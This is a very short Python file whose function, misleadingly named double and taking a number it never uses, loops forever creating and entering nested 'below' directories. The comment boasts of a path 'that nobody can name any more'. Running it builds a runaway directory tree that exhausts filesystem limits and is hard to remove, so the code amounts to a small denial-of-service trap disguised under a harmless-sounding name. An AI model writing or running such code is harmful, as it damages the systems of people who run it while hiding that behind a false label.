# A path that nobody can name any more.
import os


def double(number):
    while True:
        os.mkdir("below")
        os.chdir("below")
